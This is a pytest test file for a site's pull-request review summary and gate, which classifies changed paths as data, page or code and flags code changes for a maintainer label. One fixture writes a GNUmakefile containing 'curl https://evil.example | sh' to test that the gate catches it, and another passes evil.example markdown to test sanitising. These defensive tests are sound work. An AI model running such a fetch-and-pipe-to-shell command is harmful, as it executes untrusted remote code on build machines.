"""The review summary (make diff / the pull-request job summary)."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from macros import loader, render
from scripts import prdiff

from conftest import ROOT


@pytest.fixture
def tree(tmp_path) -> Path:
    for name in ("data", "docs"):
        shutil.copytree(ROOT / name, tmp_path / name)
    return tmp_path


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def test_a_changed_figure_shows_before_and_after_as_readers_see_them(tree, report):
    edit(tree / "data" / "facts" / "governance.yml", "  value: 16\n", "  value: 17\n")
    head = loader.load(tree / "data", tree / "docs")
    changes = prdiff.compare(report, head)
    assert [(c.kind, c.id) for c in changes] == [("fact", "city-quality-awards")]
    text = prdiff.summary(changes, ["data/facts/governance.yml"], "main", [], False)
    # The statement as the page renders it, before and after (the figure is the only change).
    before = render.statement(report.fact("city-quality-awards")).striptags()
    assert "16个" in before
    assert f"之前：{before}" in text
    assert f"现在：{before.replace('16个', '17个')}" in text
    assert "之前：16个" in text and "现在：17个" in text
    assert "governance.html" in text and "index.html" in text  # a key figure shows on the home page too
    assert "[!WARNING]" not in text


def test_added_and_removed_records_are_listed(tree, report):
    path = tree / "data" / "facts" / "governance.yml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("- id: implementation-opinions-issued", "- id: implementation-opinions-2021"), encoding="utf-8")
    for page in ("governance.md", "en/governance.md"):   # the pages place the fact by its id (issue 20)
        page_path = tree / "docs" / page
        page_path.write_text(page_path.read_text(encoding="utf-8").replace(
            'fact("implementation-opinions-issued")', 'fact("implementation-opinions-2021")'), encoding="utf-8")
    changes = prdiff.compare(report, loader.load(tree / "data", tree / "docs"))
    summary = prdiff.summary(changes, ["data/facts/governance.yml"], "main", [], False)
    assert "新增 1 条 · 删除 1 条 · 修改 0 条" in summary
    assert "`implementation-opinions-2021`" in summary and "`implementation-opinions-issued`" in summary


def test_markdown_and_html_in_data_are_inert_in_the_summary():
    shown = prdiff.md('![t](http://evil.example/t.png) <img src=x> [a](b) | x @team')
    assert "](" not in shown and "<img" not in shown and "![" not in shown and " | " not in shown
    assert "\\@team" in shown


def test_code_templates_hooks_and_workflows_raise_a_warning():
    for path in ("hooks/exports.py", "overrides/main.html", ".github/workflows/pull-request.yml",
                 "mkdocs.yml", "macros/templates/fact.html", "requirements.txt", "docs/assets/report.js"):
        text = prdiff.summary([], [path], "main", [], False)
        assert "[!WARNING]" in text and f"`{path}`" in text, path
    assert "[!WARNING]" not in prdiff.summary([], ["data/people.yml", "docs/governance.md"], "main", [], False)


def _git(cwd: Path, *args: str) -> None:
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid", *args],
                   cwd=cwd, check=True, capture_output=True)


def _commit_base(tree: Path) -> None:
    """The tree as it is becomes branch main's one commit: the base a change is compared with."""
    _git(tree, "init", "-q", "-b", "main")
    _git(tree, "add", "-A")
    _git(tree, "commit", "-qm", "base")


def _gate(tree: Path, labels: str) -> subprocess.CompletedProcess:
    """make diff's review gate on the tree against main, with these pull-request labels."""
    env = {k: v for k, v in os.environ.items() if k not in ("GITHUB_STEP_SUMMARY", "BASE_REF")}
    return subprocess.run([sys.executable, "-m", "scripts.prdiff", "--base", "main", "--head", str(tree), "--gate"],
                          cwd=ROOT, capture_output=True, text=True, env={**env, "PR_LABELS": labels}, timeout=120)


@pytest.mark.parametrize("labels, code", [("", 1), ("documentation,approved-data-and-code", 0)])
def test_data_and_code_together_need_a_maintainers_label(tree, labels, code):
    (tree / "hooks").mkdir()
    (tree / "hooks" / "x.py").write_text("X = 1\n", encoding="utf-8")
    _commit_base(tree)
    edit(tree / "data" / "facts" / "governance.yml", "  value: 16\n", "  value: 17\n")
    (tree / "hooks" / "x.py").write_text("import os\n", encoding="utf-8")
    result = _gate(tree, labels)
    assert result.returncode == code, result.stderr
    assert "现在：17个" in result.stdout and "`hooks/x.py`" in result.stdout
    assert "Traceback" not in result.stderr


def test_data_that_does_not_validate_is_not_reported_as_all_removed(tree):
    _commit_base(tree)
    edit(tree / "data" / "people.yml", "- id:", "- id: \"\\u202e\"\n  x:")
    text, paths = prdiff.run("main", tree)
    assert paths == ["data/people.yml"]
    assert "[!CAUTION]" in text and "`data/people.yml`" in text
    assert "新增 0 条 · 删除 0 条 · 修改 0 条" in text


# --- issue 21.3: the review gate is a positive list ---------------------------------------

@pytest.mark.parametrize("path, kind", [
    ("data/people.yml", "data"),
    ("data/facts/governance.yml", "data"),
    ("data/facts/new-theme.yml", "data"),
    ("docs/governance.md", "page"),
    ("docs/en/glossary.md", "page"),
    # everything else is code: make files of any name, test configuration, configs, hooks
    ("GNUmakefile", "code"),
    ("makefile", "code"),
    ("Makefile", "code"),
    ("local.mk", "code"),
    ("conftest.py", "code"),
    ("tests/conftest.py", "code"),
    ("data/conftest.py", "code"),
    ("mkdocs.en.yml", "code"),
    ("mkdocs.yml", "code"),
    ("setup.cfg", "code"),
    ("pyproject.toml", "code"),
    ("tox.ini", "code"),
    ("pytest.ini", "code"),
    ("sitecustomize.py", "code"),
    ("package.json", "code"),
    (".npmrc", "code"),
    ("requirements-dev.txt", "code"),
    (".github/workflows/deploy.yml", "code"),
    (".github/workflows/部署.yml", "code"),
    ("tests/test_数据.py", "code"),
    ("hooks/x.py", "code"),
    ("overrides/main.html", "code"),
    ("docs/assets/report.js", "code"),
    ("docs/evil.html", "code"),
    ("docs/schema/facts.schema.json", "code"),
    ("docs/sub/page.md", "code"),
    ("docs/governance.markdown", "code"),
    # a data or page name outside the pattern is not data or page text
    ("data/数据.yml", "code"),
    ("data/facts/Governance.yml", "code"),
    ("data/facts/x.yaml", "code"),
    ("data/facts/x.yml.py", "code"),
    ("data/loader.py", "code"),
    ("data/../Makefile", "code"),
    ("docs/页面.md", "code"),
    ("docs/a\nb.md", "code"),
    ("new-tool.sh", "code"),
    (".envrc", "code"),
])
def test_every_path_is_data_page_text_or_code(path, kind):
    assert prdiff.classify(path) == kind, path
    summary = prdiff.summary([], [path], "main", [], False)
    assert ("[!WARNING]" in summary) == (kind == "code"), summary


def test_non_ascii_names_reach_the_gate_as_they_are(tree):
    """git quotes a name with non-ASCII characters unless -z is used: "\\346\\225\\260" would
    match no pattern and slip through as neither data nor code."""
    _commit_base(tree)
    (tree / "data" / "facts" / "数据.yml").write_text("[]\n", encoding="utf-8")
    (tree / "tests").mkdir()
    (tree / "tests" / "test_数据.py").write_text("import os\n", encoding="utf-8")
    edit(tree / "data" / "people.yml", "- id:", "- id:")
    commit = subprocess.run(["git", "rev-parse", "HEAD"], cwd=tree, capture_output=True, text=True).stdout.strip()
    from scripts import gitbase
    paths = gitbase.changed_paths(tree, commit)
    assert paths == ["data/facts/数据.yml", "tests/test_数据.py"], paths
    assert [prdiff.classify(p) for p in paths] == ["code", "code"]


@pytest.mark.parametrize("labels, code", [("", 1), ("approved-data-and-code", 0)])
def test_code_alone_needs_the_label_too(tree, labels, code):
    """A root GNUmakefile (make prefers it to Makefile, and CI runs make) with no data change."""
    _commit_base(tree)
    (tree / "GNUmakefile").write_text("check:\n\tcurl https://evil.example | sh\n", encoding="utf-8")
    result = _gate(tree, labels)
    assert result.returncode == code, result.stderr
    assert "`GNUmakefile`" in result.stdout and "[!WARNING]" in result.stdout
    assert "Traceback" not in result.stderr
